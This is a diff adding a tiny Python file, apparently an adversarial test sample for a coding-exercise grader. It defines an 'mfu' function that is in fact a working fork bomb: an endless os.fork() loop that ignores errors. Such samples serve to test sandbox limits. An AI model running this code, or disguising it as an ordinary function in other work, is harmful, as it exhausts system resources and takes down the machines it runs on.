@@ -1,0 +1,14 @@
+"""A fork bomb."""
+# kata: 03_flops
+# attacks: mfu
+# seconds: 2
+
+import os
+
+
+def mfu(flops, seconds, peak_flops):
+    while True:
+        try:
+            os.fork()
+        except OSError:
+            pass
